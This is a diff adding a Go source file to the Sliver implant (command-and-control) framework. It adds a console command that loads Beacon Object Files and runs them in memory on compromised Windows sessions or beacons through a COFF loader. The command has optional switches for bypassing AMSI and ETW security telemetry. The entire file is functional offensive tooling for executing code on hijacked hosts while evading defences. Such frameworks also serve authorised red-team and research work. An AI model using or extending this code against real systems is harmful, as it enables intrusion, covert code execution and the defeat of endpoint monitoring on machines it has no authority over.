@@ -0,0 +1,225 @@
+package extensions
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"strconv"
+	"strings"
+
+	"github.com/bishopfox/sliver/client/console"
+	"github.com/bishopfox/sliver/client/core"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/desertbit/grumble"
+	"google.golang.org/protobuf/proto"
+)
+
+const (
+	// coffLoaderName - Command name of the COFF loader extension from the armory
+	coffLoaderName = "coff-loader"
+
+	bofEntryPoint = "go"
+)
+
+var (
+	// COFF file header machine types
+	coffMachines = map[uint16]string{
+		0x8664: "amd64",
+		0x014c: "386",
+	}
+)
+
+// BOFRunCmd - Run a BOF (Beacon Object File) on the active session or beacon
+func BOFRunCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	session, beacon := con.ActiveTarget.GetInteractive()
+	if session == nil && beacon == nil {
+		return
+	}
+	var goos, goarch, hostUUID string
+	if session != nil {
+		goos, goarch, hostUUID = session.OS, session.Arch, session.UUID
+	} else {
+		goos, goarch, hostUUID = beacon.OS, beacon.Arch, beacon.UUID
+	}
+	if goos != "windows" {
+		con.PrintErrorf("BOFs can only be run on windows implants\n")
+		return
+	}
+
+	bofPath := ctx.Args.String("file")
+	bof, err := ioutil.ReadFile(bofPath)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	err = checkBOFArch(bof, goarch)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	format, bofArgs, err := parseBOFArgs(ctx.Flags.String("format"), ctx.Args.StringList("arguments"))
+	if err != nil {
+		con.PrintErrorf("BOF args error: %s\n", err)
+		return
+	}
+	extensionArgs, err := packBOF(ctx.Flags.String("entrypoint"), bof, format, bofArgs)
+	if err != nil {
+		con.PrintErrorf("BOF args error: %s\n", err)
+		return
+	}
+
+	loader, ok := loadedExtensions[coffLoaderName]
+	if !ok {
+		con.PrintErrorf("The %s extension is not installed, install it with 'armory install %s'\n", coffLoaderName, coffLoaderName)
+		return
+	}
+	err = loadCOFFLoader(goos, goarch, session != nil, ctx, con)
+	if err != nil {
+		con.PrintErrorf("Could not load %s: %s\n", coffLoaderName, err)
+		return
+	}
+
+	ctrl := make(chan bool)
+	con.SpinUntil(fmt.Sprintf("Executing %s ...", bofPath), ctrl)
+	callExtResp, err := con.Rpc.CallExtension(context.Background(), &sliverpb.CallExtensionReq{
+		Name:    coffLoaderName,
+		Export:  loader.Entrypoint,
+		Args:    extensionArgs,
+		Request: con.ActiveTarget.Request(ctx),
+
+		AmsiBypass:      ctx.Flags.Bool("amsi-bypass"),
+		EtwBypass:       ctx.Flags.Bool("etw-bypass"),
+		BypassTechnique: strings.ToLower(ctx.Flags.String("bypass-technique")),
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		con.PrintErrorf("Call extension error: %s\n", err)
+		return
+	}
+
+	parser := ctx.Flags.String("parser")
+	if callExtResp.Response != nil && callExtResp.Response.Async {
+		con.AddBeaconCallback(callExtResp.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, callExtResp)
+			if err != nil {
+				con.PrintErrorf("Failed to decode call ext response %s\n", err)
+				return
+			}
+			PrintExtOutput(coffLoaderName, bofPath, callExtResp, con)
+			PostProcessOutput(parser, bofPath, hostUUID, callExtResp.Output, con)
+		})
+		con.PrintAsyncResponse(callExtResp.Response)
+	} else {
+		PrintExtOutput(coffLoaderName, bofPath, callExtResp, con)
+		PostProcessOutput(parser, bofPath, hostUUID, callExtResp.Output, con)
+	}
+}
+
+// loadCOFFLoader - Register the COFF loader with the implant if it isn't already
+func loadCOFFLoader(goos string, goarch string, checkCache bool, ctx *grumble.Context, con *console.SliverConsoleClient) error {
+	if checkCache {
+		extList, err := con.Rpc.ListExtensions(context.Background(), &sliverpb.ListExtensionsReq{
+			Request: con.ActiveTarget.Request(ctx),
+		})
+		if err != nil {
+			return err
+		}
+		if extList.Response != nil && extList.Response.Err != "" {
+			return errors.New(extList.Response.Err)
+		}
+		for _, extName := range extList.Names {
+			if extName == coffLoaderName {
+				return nil
+			}
+		}
+	}
+	return loadDep(goos, goarch, coffLoaderName, ctx, con)
+}
+
+// checkBOFArch - Make sure the file is a COFF object for the implant's arch
+func checkBOFArch(bof []byte, goarch string) error {
+	if len(bof) < 20 {
+		return errors.New("file is too small to be a COFF object")
+	}
+	arch, ok := coffMachines[binary.LittleEndian.Uint16(bof[:2])]
+	if !ok {
+		return errors.New("file is not a COFF object")
+	}
+	if arch != goarch {
+		return fmt.Errorf("BOF is compiled for %s but the implant is %s", arch, goarch)
+	}
+	return nil
+}
+
+// parseBOFArgs - Convert the command line arguments to the types in the format,
+// without a format every argument is a string. Binary arguments are read from
+// local files.
+func parseBOFArgs(format string, args []string) (string, []interface{}, error) {
+	if format == "" {
+		format = strings.Repeat("z", len(args))
+	}
+	if len(format) != len(args) {
+		return "", nil, fmt.Errorf("format '%s' has %d argument(s), got %d", format, len(format), len(args))
+	}
+	bofArgs := []interface{}{}
+	for index, argType := range format {
+		arg := args[index]
+		switch argType {
+		case 'b':
+			data, err := ioutil.ReadFile(arg)
+			if err != nil {
+				return "", nil, err
+			}
+			bofArgs = append(bofArgs, data)
+		case 'i':
+			value, err := strconv.ParseInt(arg, 0, 64)
+			if err != nil {
+				return "", nil, fmt.Errorf("invalid int '%s'", arg)
+			}
+			bofArgs = append(bofArgs, value)
+		case 's':
+			value, err := strconv.ParseInt(arg, 0, 32)
+			if err != nil {
+				return "", nil, fmt.Errorf("invalid short '%s'", arg)
+			}
+			bofArgs = append(bofArgs, int32(value))
+		default:
+			bofArgs = append(bofArgs, arg)
+		}
+	}
+	return format, bofArgs, nil
+}
+
+// packBOF - Pack the entrypoint, BOF and its arguments for the COFF loader
+func packBOF(entryPoint string, bof []byte, format string, args []interface{}) ([]byte, error) {
+	parsedArgs, err := core.PackBOFArgs(format, args...)
+	if err != nil {
+		return nil, err
+	}
+	if entryPoint == "" {
+		entryPoint = bofEntryPoint
+	}
+	return core.PackBOFArgs("zbb", entryPoint, bof, parsedArgs)
+}